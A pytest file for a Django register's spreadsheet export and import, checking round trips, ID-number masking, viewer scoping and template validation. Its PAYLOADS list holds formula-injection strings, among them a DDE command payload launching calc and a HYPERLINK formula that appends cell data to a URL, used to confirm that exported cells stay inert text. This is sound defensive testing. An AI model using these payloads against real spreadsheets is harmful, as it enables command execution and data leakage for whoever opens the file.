"""Exporting: the register comes back the same through a file, and no cell of it is run by a spreadsheet."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from django.utils import translation
from openpyxl import load_workbook

from audit import journal
from config.demo.building import Demo
from registry import exchange, organisations, posts
from registry.exchange.columns import KINDS
from registry.models import Member, Organisation, Person, Post
from tests.registry.exchange_files import empty_the_register, held, lines_of

BY = journal.system("test")
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\ufeff=",
    "\u200b=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://a/"&A1,"x")']
PAYLOADS = [start + body for start in STARTS for body in BODIES]
OTHERS = ["'", "''", "'=1", "O'Neill", " 前后空格 ", "一行\n两行", "a\r\nb", "a\tb", "_x0041_", "&lt;<b>&", '"', "𠀀𬭎䶮", "#N/A", "TRUE", "2026-11-24", "0123", "1e5"]  # fmt: skip


@pytest.fixture(autouse=True)
def _in_english() -> Iterator[None]:
    with translation.override("en"):
        yield


def test_the_register_comes_back_the_same_through_an_empty_database(world: Demo) -> None:
    Organisation.objects.filter(code="QH0102").update(address="=1+1", short_name=" '四\t号 ")
    posts.create_post(world.organisations["QH"], "registrar", by=BY)
    before, first = held(), exchange.export(with_id_numbers=True)
    empty_the_register()
    assert held()["Person"] == held()["Organisation"] == 0
    report = exchange.load(io.BytesIO(first), "登记.xlsx", by=BY)
    assert report.faults == []
    assert lines_of(exchange.export(with_id_numbers=True)) == lines_of(first)
    assert held() == before | {"Entry": before["Entry"] + 1}
    assert Organisation.objects.get(code="QH0102").address == "=1+1"


def test_importing_an_export_again_finds_everything_unchanged(world: Demo) -> None:
    before = held()
    report = exchange.load(io.BytesIO(exchange.export(with_id_numbers=True)), "登记.xlsx", by=BY)
    assert (report.faults, sum(report.created().values())) == ([], 0)
    assert {kind: tally.unchanged for kind, tally in report.tallies.items()} == {
        "organisations": before["Organisation"], "members": before["Member"], "posts": before["Appointment"],
    }  # fmt: skip
    assert held() == before | {"Entry": before["Entry"] + 1}


@pytest.mark.parametrize("payload", PAYLOADS + OTHERS)
def test_no_cell_is_active_and_every_text_comes_back(world: Demo, payload: str) -> None:
    Organisation.objects.filter(code="QH0101").update(
        address=payload, name=payload + "支部", document_word=payload[:12]
    )
    content = exchange.export(["organisations"])
    book = load_workbook(io.BytesIO(content))
    cells = [cell for row in book["组织"].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [
        cell.value
        for cell in cells
        if re.match("[\\s\ufeff\u200b]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]", cell.value)
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    report = exchange.examine(io.BytesIO(content), "组织.xlsx")
    assert (report.faults, report.tallies["organisations"].unchanged) == ([], len(world.organisations))


def test_members_and_posts_have_no_active_cells_either(world: Demo) -> None:
    Person.objects.update(telephone="+86 13900000000", name="=A1", ethnic_group="@x")
    Post.objects.filter(organisation__code="QH0101", role="secretary").update(title="-1+1")
    lines = lines_of(exchange.export())
    texts = {cell for name in ("党员", "职务") for line in lines[name][1:] for cell in line if cell}
    assert {"'+86 13900000000", "'=A1", "'@x", "'-1+1"} <= texts
    assert not [text for text in texts if text.startswith(tuple("=+-@"))]


def test_characters_that_no_workbook_holds_do_not_stop_an_export(world: Demo) -> None:
    Organisation.objects.filter(code="QH0101").update(address="a\x07b")
    row = next(line for line in lines_of(exchange.export(["organisations"]))["组织"] if line[0] == "QH0101")
    assert row[8] == "a\ufffdb"


def test_without_leave_id_numbers_are_masked_and_such_a_file_cannot_be_imported(world: Demo) -> None:
    content = exchange.export()
    numbers = [line[4] for line in lines_of(content)["党员"][1:]] + [line[4] for line in lines_of(content)["职务"][1:]]
    assert {bool(re.fullmatch(r"\d{6}\*{8}[\dX]{4}", number)) for number in numbers} == {True}
    report = exchange.load(io.BytesIO(content), "登记.xlsx", by=BY)
    masked = "This ID number is masked; an import needs a file exported with ID numbers."
    assert {fault.reason for fault in report.faults} == {masked}
    assert report.faults_total == len(numbers)


def test_an_export_for_a_viewer_holds_his_subtree_only(world: Demo) -> None:
    county = Organisation.objects.filter(lineage__contains=[world.organisations["QH"].pk])
    lines = lines_of(exchange.export(organisations=county))
    codes = set(county.values_list("code", flat=True))
    assert {line[0] for line in lines["组织"][1:]} == codes
    assert {line[6] for line in lines["党员"][1:]} <= codes
    assert {line[0] for line in lines["职务"][1:]} <= codes
    assert list(lines_of(exchange.export(["members"], organisations=county))) == ["党员"]


def test_whoever_left_the_roll_is_not_given_back(world: Demo, ordinary_member: Member) -> None:
    count = len(lines_of(exchange.export(["members"]))["党员"])
    Member.objects.filter(pk=ordinary_member.pk).update(standing="removed")
    assert len(lines_of(exchange.export(["members"]))["党员"]) == count - 1


def test_a_holder_without_an_id_number_and_a_dissolved_place_come_back_too(world: Demo) -> None:
    place = organisations.found(by=BY, code="OLD", name="旧支部", level="branch", parent=world.organisations["QH01"])
    person = Person.objects.create(
        name="无号人", sex="F", born_on=dt.date(1950, 5, 5), ethnic_group="白", telephone="1"
    )
    post = posts.create_post(place, "secretary", by=BY)
    posts.appoint(post, person, by=BY, since=dt.date(1990, 1, 1), until=dt.date(1995, 1, 1))
    Organisation.objects.filter(pk=place.pk).update(dissolved_on=dt.date(1995, 1, 2))
    first = exchange.export(with_id_numbers=True)
    assert (
        "OLD",
        "书记",
        post.title,
        "无号人",
        None,
        "女",
        "1950-05-05",
        "白",
        "1",
        "1990-01-01",
        "1995-01-01",
        "否",
    ) in lines_of(first)["职务"]
    empty_the_register()
    assert exchange.load(io.BytesIO(first), "登记.xlsx", by=BY).faults == []
    assert lines_of(exchange.export(with_id_numbers=True)) == lines_of(first)


def test_the_template_offers_what_may_be_written(world: Demo) -> None:
    book = load_workbook(io.BytesIO(exchange.template()))
    assert book.sheetnames == ["组织", "党员", "职务", "说明"]
    for kind in KINDS:
        sheet = book[kind.title]
        assert [cell.value for cell in sheet[1]] == [c.title + "*" * c.required for c in kind.columns]
        assert [cell.comment.text for cell in sheet[1]] == [c.note for c in kind.columns]
        offered = {str(v.sqref).split("2")[0]: v.formula1 for v in sheet.data_validations.dataValidation}
        expected = {
            cell.column_letter: f'"{",".join(c.type.choices)}"'
            for cell, c in zip(sheet[1], kind.columns, strict=True)
            if c.type.choices
        }
        assert offered == expected
        assert {cell.number_format for row in sheet.iter_rows(min_row=2) for cell in row} == {"@"}


def test_the_examples_of_the_template_would_import(world: Demo) -> None:
    """Without the mark and under the demo's county they are a sound register."""
    book = load_workbook(io.BytesIO(exchange.template()))
    for row in (cell for sheet in book for line in sheet.iter_rows() for cell in line):
        if isinstance(row.value, str):
            row.value = {"示例-QH": "QH", "示例-QH01": "EX01", "示例-QH0101": "EX0101"}.get(
                row.value, row.value.removeprefix("示例-")
            )
    file = io.BytesIO()
    book.save(file)
    report = exchange.load(io.BytesIO(file.getvalue()), "a.xlsx", by=BY)
    assert [tuple(fault) for fault in report.faults] == []
    assert report.created() == {"organisations": 2, "persons": 3, "members": 2, "posts": 2, "appointments": 2}
